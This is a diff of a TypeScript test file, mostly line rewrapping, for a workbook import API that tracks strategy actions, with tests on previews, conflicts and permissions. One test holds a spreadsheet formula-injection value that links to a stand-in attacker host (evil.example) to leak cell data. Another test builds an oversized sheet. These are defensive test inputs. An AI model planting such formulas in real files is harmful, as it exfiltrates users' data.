@@ -59,7 +59,10 @@ async function bytesOf(workbook: ExcelJS.Workbook): Promise<Uint8Array<ArrayBuff
 async function upload(client: Client | null, body: Uint8Array<ArrayBuffer> | string): Promise<{ status: number; body: Answer }> {
   const response = await fetch(`${server.url}/import/workbook.xlsx`, {
     method: 'POST',
-    headers: { ...(client ? { authorization: `Bearer ${client.token}` } : {}), 'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' },
+    headers: {
+      ...(client ? { authorization: `Bearer ${client.token}` } : {}),
+      'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+    },
     body,
   });
   return { status: response.status, body: (await response.json()) as Answer };
@@ -119,7 +122,9 @@ describe('the editable workbook', () => {
   it('refuses a language it does not have, and any other parameter', async () => {
     const italian = await download(coordinator, '?lang=it');
     expect(italian.status).toBe(400);
-    expect(await italian.json()).toEqual({ error: { code: 'BAD_USER_INPUT', message: 'lang "it" is not a language of the workbook: give "en", "fr" or "de".' } });
+    expect(await italian.json()).toEqual({
+      error: { code: 'BAD_USER_INPUT', message: 'lang "it" is not a language of the workbook: give "en", "fr" or "de".' },
+    });
     expect((await download(coordinator, '?asOf=2013-06-01')).status).toBe(400);
   });
 });
@@ -148,7 +153,9 @@ describe('the round trip', () => {
       { field: 'note', cell: `I${first.number}`, before: null, after: 'Draft guidelines sent to the member states.' },
     ]);
     expect(byRef(preview.body.rows, '2.1-04').effectiveOn).toBe('2013-05-20');
-    expect(byRef(preview.body.rows, '2.1-05').problems).toEqual([{ cell: `F${second.number}`, message: 'Progress must be a whole number between 0 and 100.' }]);
+    expect(byRef(preview.body.rows, '2.1-05').problems).toEqual([
+      { cell: `F${second.number}`, message: 'Progress must be a whole number between 0 and 100.' },
+    ]);
     // A preview writes nothing.
     expect((await readAction(enisa, '2.1-04')).version).toBe(1);
 
@@ -157,17 +164,31 @@ describe('the round trip', () => {
     expect(outcomes(applied.body.rows)).toEqual({ '2.1-04': 'APPLIED', '2.1-05': 'SKIPPED' });
     expect(byRef(applied.body.rows, '2.1-05').reason).toBe('INVALID');
     const action = await readAction(enisa, '2.1-04');
-    expect(action).toMatchObject({ status: 'IN_PROGRESS', progress: 35, forecastDate: '2014-06-30', note: 'Draft guidelines sent to the member states.', version: 2 });
+    expect(action).toMatchObject({
+      status: 'IN_PROGRESS',
+      progress: 35,
+      forecastDate: '2014-06-30',
+      note: 'Draft guidelines sent to the member states.',
+      version: 2,
+    });
     // Through the API's write path: one ACTION_UPDATED event by the owner, before → after.
     const [event] = action.history.edges.map((edge) => edge.node).filter((node) => node.type === 'ACTION_UPDATED');
-    expect(event).toMatchObject({ author: { id: 'owner-enisa' }, before: { status: 'NOT_STARTED', version: 1 }, after: { status: 'IN_PROGRESS', progress: 35, version: 2 } });
+    expect(event).toMatchObject({
+      author: { id: 'owner-enisa' },
+      before: { status: 'NOT_STARTED', version: 1 },
+      after: { status: 'IN_PROGRESS', progress: 35, version: 2 },
+    });
     // The day it happened went to the API as effectiveOn.
-    const dated = await enisa.call<{ action: { effectiveOn: string; history: { edges: { node: { type: string; effectiveOn: string; recordedAt: string } }[] } } }>(
-      'query Dated($id: ID!) { action(id: $id) { effectiveOn history(first: 5) { edges { node { type effectiveOn recordedAt } } } } }',
-      { id: '2.1-04' },
-    );
+    const dated = await enisa.call<{
+      action: { effectiveOn: string; history: { edges: { node: { type: string; effectiveOn: string; recordedAt: string } }[] } };
+    }>('query Dated($id: ID!) { action(id: $id) { effectiveOn history(first: 5) { edges { node { type effectiveOn recordedAt } } } } }', {
+      id: '2.1-04',
+    });
     expect(dated.data?.action.effectiveOn).toBe('2013-05-20');
-    expect(dated.data?.action.history.edges.map((edge) => edge.node).find((node) => node.type === 'ACTION_UPDATED')).toMatchObject({ effectiveOn: '2013-05-20', recordedAt: '2013-06-01T09:00:00.000Z' });
+    expect(dated.data?.action.history.edges.map((edge) => edge.node).find((node) => node.type === 'ACTION_UPDATED')).toMatchObject({
+      effectiveOn: '2013-05-20',
+      recordedAt: '2013-06-01T09:00:00.000Z',
+    });
     // The invalid row applied nothing.
     expect((await readAction(enisa, '2.1-05')).version).toBe(1);
 
@@ -201,7 +222,11 @@ describe('the round trip', () => {
     expect(conflict).toMatchObject({
       outcome: 'CONFLICT',
       changes: [{ field: 'progress', before: 20, after: 60 }],
-      conflict: { exportedVersion: version, currentVersion: version + 1, saves: [{ by: 'Commission coordinator', at: '2013-06-02T10:00:00.000Z', fields: ['progress'] }] },
+      conflict: {
+        exportedVersion: version,
+        currentVersion: version + 1,
+        saves: [{ by: 'Commission coordinator', at: '2013-06-02T10:00:00.000Z', fields: ['progress'] }],
+      },
     });
     const applied = await apply(coordinator, preview.body.id);
     expect(byRef(applied.body.rows, '2.3-01')).toMatchObject({ outcome: 'SKIPPED', reason: 'CONFLICT' });
@@ -238,7 +263,10 @@ describe('the round trip', () => {
 
     const { version } = await readAction(coordinator, '2.4-01');
     expect((await coordinator.call(UPDATE_ACTION, { input: { actionId: '2.4-01', progress: 5, expectedVersion: version } })).errors).toBeUndefined();
-    const applied = await apply(coordinator, preview.body.id, ['Actions!' + rowOf(sheet, '2.4-01').number, 'Actions!' + rowOf(sheet, '2.4-02').number]);
+    const applied = await apply(coordinator, preview.body.id, [
+      'Actions!' + rowOf(sheet, '2.4-01').number,
+      'Actions!' + rowOf(sheet, '2.4-02').number,
+    ]);
     expect(byRef(applied.body.rows, '2.4-01')).toMatchObject({ outcome: 'FAILED', code: 'CONFLICT' });
     expect(byRef(applied.body.rows, '2.4-02')).toMatchObject({ outcome: 'APPLIED' });
     expect((await readAction(coordinator, '2.4-01')).progress).toBe(5);
@@ -271,9 +299,19 @@ describe('the round trip', () => {
     const today = now.toISOString().slice(0, 10);
     expect(byRef(preview.body.rows, '2.2-03')).toMatchObject({
       outcome: 'INVALID',
-      problems: [{ cell: `J${future.number}`, message: `The day it happened (effectiveOn) 2013-07-01 is in the future: the earliest allowed is 2013-02-07 (the adoption), the latest ${today} (today, UTC).` }],
+      problems: [
+        {
+          cell: `J${future.number}`,
+          message: `The day it happened (effectiveOn) 2013-07-01 is in the future: the earliest allowed is 2013-02-07 (the adoption), the latest ${today} (today, UTC).`,
+        },
+      ],
     });
-    expect(byRef(preview.body.rows, '2.2-04').problems).toEqual([{ cell: `J${early.number}`, message: expect.stringMatching(/^The day it happened \(effectiveOn\) 2012-12-31 is before the strategy was adopted/) }]);
+    expect(byRef(preview.body.rows, '2.2-04').problems).toEqual([
+      {
+        cell: `J${early.number}`,
+        message: expect.stringMatching(/^The day it happened \(effectiveOn\) 2012-12-31 is before the strategy was adopted/),
+      },
+    ]);
     await apply(coordinator, preview.body.id);
     expect((await readAction(coordinator, '2.2-03')).progress).toBe(0);
   });
@@ -286,7 +324,10 @@ describe('the round trip', () => {
     row.getCell(1).value = '2.3-01';
     row.getCell(6).value = 99;
     const preview = await upload(enisa, await bytesOf(workbook));
-    expect(byRef(preview.body.rows, '2.3-01')).toMatchObject({ outcome: 'INVALID', problems: [{ cell: 'A2', message: expect.stringContaining("Only the action's owners") }] });
+    expect(byRef(preview.body.rows, '2.3-01')).toMatchObject({
+      outcome: 'INVALID',
+      problems: [{ cell: 'A2', message: expect.stringContaining("Only the action's owners") }],
+    });
   });
 
   it('a national contact: their country’s reports; an invalid row (no open round) applies nothing, then a report is submitted', async () => {
@@ -311,7 +352,10 @@ describe('the round trip', () => {
 
     expect((await coordinator.call(OPEN_ROUND, { input: { name: 'Summer 2013', closes: '2013-07-31' } })).errors).toBeUndefined();
     const preview = await upload(france, bytes);
-    expect(byRef(preview.body.rows, '2.1-10')).toMatchObject({ outcome: 'CHANGED', changes: [{ field: 'status', before: null, after: 'IN_PROGRESS' }, { field: 'note' }] });
+    expect(byRef(preview.body.rows, '2.1-10')).toMatchObject({
+      outcome: 'CHANGED',
+      changes: [{ field: 'status', before: null, after: 'IN_PROGRESS' }, { field: 'note' }],
+    });
     const applied = await apply(france, preview.body.id);
     expect(byRef(applied.body.rows, '2.1-10').outcome).toBe('APPLIED');
     const [report] = (await readAction(france, '2.1-10')).memberStateReports;
@@ -325,7 +369,10 @@ describe('the round trip', () => {
     earlierRow.getCell(7).value = 'Loi adoptée en première lecture.';
     expect(byRef((await upload(france, await bytesOf(earlier))).body.rows, '2.1-10').outcome).toBe('UNCHANGED');
     earlierRow.getCell(5).value = 'Completed';
-    expect(byRef((await upload(france, await bytesOf(earlier))).body.rows, '2.1-10')).toMatchObject({ outcome: 'CONFLICT', conflict: { exportedVersion: null, currentVersion: 1 } });
+    expect(byRef((await upload(france, await bytesOf(earlier))).body.rows, '2.1-10')).toMatchObject({
+      outcome: 'CONFLICT',
+      conflict: { exportedVersion: null, currentVersion: 1 },
+    });
   });
 
   it('a preview belongs to its uploader: someone else’s, or an unknown one, is 404', async () => {
@@ -402,7 +449,13 @@ describe('hostile files: 400 with a sentence to act on, and nothing written', ()
 
   it('a sheet of a million tiny cells within the size bounds', async () => {
     const sheetXml = Buffer.from(`<worksheet><sheetData><row r="1">${'<c/>'.repeat(200_000)}</row></sheetData></worksheet>`);
-    await refused(zip([{ name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') }, { name: 'xl/worksheets/sheet1.xml', data: sheetXml }]), /more than 100,000 cells/);
+    await refused(
+      zip([
+        { name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') },
+        { name: 'xl/worksheets/sheet1.xml', data: sheetXml },
+      ]),
+      /more than 100,000 cells/,
+    );
   });
 
   it('over 2 MB', async () => {
@@ -437,7 +490,9 @@ describe('hostile files: 400 with a sentence to act on, and nothing written', ()
     const problems = byRef(preview.body.rows, '2.1-01').problems;
     expect(byRef(preview.body.rows, '2.1-01').outcome).toBe('INVALID');
     expect(problems).toContainEqual({ cell: `F${row.number}`, message: 'Progress must be a whole number between 0 and 100.' });
-    expect(byRef(preview.body.rows, '2.1-01').changes).toContainEqual(expect.objectContaining({ field: 'note', after: '=HYPERLINK("http://evil.example/?"&A1,"x")' }));
+    expect(byRef(preview.body.rows, '2.1-01').changes).toContainEqual(
+      expect.objectContaining({ field: 'note', after: '=HYPERLINK("http://evil.example/?"&A1,"x")' }),
+    );
   });
 
   it('a viewer has nothing to import; without a token, 401', async () => {
